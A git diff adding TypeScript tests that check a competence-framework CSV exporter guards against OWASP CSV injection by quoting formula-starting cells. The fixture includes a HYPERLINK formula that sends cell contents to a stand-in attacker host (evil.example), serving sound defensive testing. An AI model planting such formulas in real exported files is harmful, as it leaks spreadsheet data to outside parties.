@@ -3,7 +3,9 @@ import { SMALL } from '../../test/fixtures/small-framework.ts'
 import { CompetenceError } from '../errors.ts'
 import { validateFramework } from '../framework/validate-framework.ts'
 import { PAUD_EDUCATOR_COMPETENCES } from '../seed/paud-competences.ts'
+import type { Framework } from '../framework/types.ts'
 import { parseFrameworkCsv, writeFrameworkCsv, type FrameworkHeader } from './framework-csv.ts'
+import { parseCsv } from './rfc4180.ts'
 
 const { competences: _c, ...SMALL_HEADER } = SMALL
 const HEADER: FrameworkHeader = SMALL_HEADER
@@ -67,5 +69,53 @@ describe('framework CSV for administrators', () => {
   it('reads the columns in any order', () => {
     const f = parseFrameworkCsv('title_en,title_id,level,parent_code,code\nSocial,Sosial,competence,,SOS\n', { ...NO_RUBRICS } as FrameworkHeader)
     expect(f.competences.map((c) => c.code)).toEqual(['SOS'])
+  })
+})
+
+/**
+ * OWASP "CSV Injection": a cell starting with = + - @ TAB or CR is run by Excel, LibreOffice and
+ * Google Sheets as a formula. The framework CSV is a round-trip format, so the quote that export
+ * puts before such a cell comes off on import.
+ */
+describe('framework CSV and spreadsheet formulas (OWASP CSV Injection)', () => {
+  const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
+  /** An administrator's framework whose codes and titles start formulas, or look quoted already. */
+  const HOSTILE: Framework = {
+    ...NO_RUBRICS,
+    competences: [
+      {
+        code: '-3', version: '1.0.0', title: { id: FORMULA, en: '@SUM(1+1)' },
+        subCompetences: [{
+          code: '-3.A', version: '1.0.0', title: { id: '+62 370 123', en: '\tTabbed' },
+          indicators: [
+            { code: '-3.A.1', version: '1.0.0', title: { id: "'=already quoted", en: "''-1" } },
+            { code: '-3.A.2', version: '1.0.0', title: { id: '-3', en: "'plain" } },
+          ],
+        }],
+      },
+      ...SMALL.competences,
+    ],
+  }
+
+  it('writes every cell a spreadsheet would run with a leading single quote, codes and titles alike', () => {
+    const lines = writeFrameworkCsv(validateFramework(HOSTILE)).split('\r\n')
+    expect(lines.slice(1, 5)).toEqual([
+      `'-3,,competence,"'=HYPERLINK(""https://evil.example/?""&A1,""klik"")",'@SUM(1+1),,1.0.0`,
+      "'-3.A,'-3,sub-competence,'+62 370 123,'\tTabbed,,1.0.0",
+      "'-3.A.1,'-3.A,indicator,''=already quoted,'''-1,,1.0.0",
+      "'-3.A.2,'-3.A,indicator,'-3,'plain,,1.0.0",
+    ])
+    // No record has a field (quoted or not) that starts a formula.
+    const { records } = parseCsv(lines.join('\r\n'))
+    for (const record of records) for (const field of record.fields) expect(field, field).not.toMatch(/^[=+\-@\t\r]/u)
+  })
+
+  it('round-trips a framework whose cells start formulas: parse(write(f)) = f, "-3" and "\'=x" included', () => {
+    expect(parseFrameworkCsv(writeFrameworkCsv(validateFramework(HOSTILE)), HEADER)).toEqual({ ...HOSTILE, rubrics: SMALL.rubrics })
+  })
+
+  it('reads a cell as it is when the spreadsheet saved it without the quote', () => {
+    const f = parseFrameworkCsv(`${HEAD}SOS,,competence,"=HYPERLINK(""x"")",-3,,\r\n`, { ...NO_RUBRICS } as FrameworkHeader)
+    expect(f.competences[0]!.title).toEqual({ id: '=HYPERLINK("x")', en: '-3' })
   })
 })
